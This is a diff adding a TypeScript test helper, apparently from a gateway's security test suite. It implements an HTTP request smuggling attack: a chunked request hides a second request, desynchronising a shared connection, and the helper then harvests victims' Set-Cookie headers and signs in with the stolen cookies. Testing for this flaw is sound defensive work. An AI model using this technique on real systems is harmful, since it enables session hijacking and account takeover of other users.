@@ -1,0 +1,102 @@
+import { Person } from '../../builders/person.ts';
+import { headerOf, type RawAnswer } from './raw-answer.ts';
+import { RawConnection } from './raw-connection.ts';
+
+const ownFile = '/realms/struma/resources/sign-in.css';
+const carrier = '/realms/struma/protocol/openid-connect/auth?client_id=nobody';
+const ownName = 'attacker-without-an-account';
+
+/**
+ * Somebody without an account who hides a request in the body of another one. If the gateway writes that body to a
+ * connection which it shares between people, the provider's answers get out of step: a victim receives the attacker's
+ * answer, and the attacker's next request receives the victim's.
+ */
+export class SmugglingAttacker {
+  /** First lines of what was answered to the attacker and was not asked for by the attacker. */
+  readonly foreignAnswers: string[] = [];
+  readonly #stolen = new Map<string, string>();
+  readonly #address: string;
+  readonly #method: string;
+  readonly #hidden: string;
+
+  private constructor(address: string, method: string, hidden: string) {
+    this.#address = address;
+    this.#method = method;
+    this.#hidden = hidden;
+  }
+
+  /** Opens a sign-in form as everybody may. */
+  static async arrive(address: string, method: string): Promise<SmugglingAttacker> {
+    const visitor = new Person(address);
+    const page = await visitor.follow('/auth/login');
+    await page.body?.cancel();
+    return new SmugglingAttacker(address, method, passwordOf(new URL(page.url), visitor.cookies));
+  }
+
+  /** Sends the request with the hidden one. A proxy may count a body that comes at once, so it comes a little later. */
+  async strike(): Promise<void> {
+    const connection = await this.#send(
+      this.#method,
+      carrier,
+      'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n',
+    );
+    if (await connection.isContinued())
+      connection.write(`${this.#hidden.length.toString(16)}\r\n${this.#hidden}\r\n0\r\n\r\n`);
+    await connection.next(this.#method);
+    connection.close();
+  }
+
+  /** Asks for a file of the sign-in page, again and again, and keeps everything else that comes. */
+  async collect(): Promise<void> {
+    for (let round = 0; round < 4; round += 1) {
+      const connection = await this.#send('GET', ownFile);
+      const answer = await connection.next();
+      connection.close();
+      if (!answer || isOwn(answer)) continue;
+      this.foreignAnswers.push(answer.head.split('\r\n', 1)[0] ?? '');
+      for (const [, name = '', value = ''] of answer.head.matchAll(/^set-cookie: *([^=]+)=([^;]*)/gim))
+        this.#stolen.set(name, value);
+    }
+  }
+
+  /** Signs in with the cookies that were stolen; the name of the person who it is then, null if it did not work. */
+  async signInWithStolenCookies(): Promise<string | null> {
+    const person = new Person(this.#address, this.#stolen);
+    await (await person.follow('/auth/login')).body?.cancel();
+    return signedInName(person);
+  }
+
+  async #send(method: string, path: string, headers = ''): Promise<RawConnection> {
+    const connection = await RawConnection.open(this.#address);
+    connection.write(`${method} ${path} HTTP/1.1\r\nHost: ${new URL(this.#address).host}\r\n${headers}\r\n`);
+    return connection;
+  }
+}
+
+/**
+ * A wrong password in the attacker's own form: to check it takes the provider long enough that a victim's request comes
+ * to stand behind it.
+ */
+const passwordOf = (form: URL, cookies: ReadonlyMap<string, string>): string => {
+  const body = `username=${ownName}&password=wrong`;
+  return [
+    `POST ${form.pathname}${form.search} HTTP/1.1`,
+    `Host: ${form.host}`,
+    `Origin: ${form.origin}`,
+    `Cookie: ${[...cookies].map((pair) => pair.join('=')).join('; ')}`,
+    'Content-Type: application/x-www-form-urlencoded',
+    `Content-Length: ${body.length}`,
+    '',
+    body,
+  ].join('\r\n');
+};
+
+const isOwn = (answer: RawAnswer): boolean =>
+  headerOf(answer, 'content-type').startsWith('text/css') || answer.body.includes(ownName);
+
+/** Null: nobody has signed in. */
+export const signedInName = async (person: Person): Promise<string | null> => {
+  const answer = await person.fetch('/auth/session', { headers: { 'x-struma': '1' } });
+  const { name } = (await answer.json()) as { name?: string };
+  return name ?? null;
+};
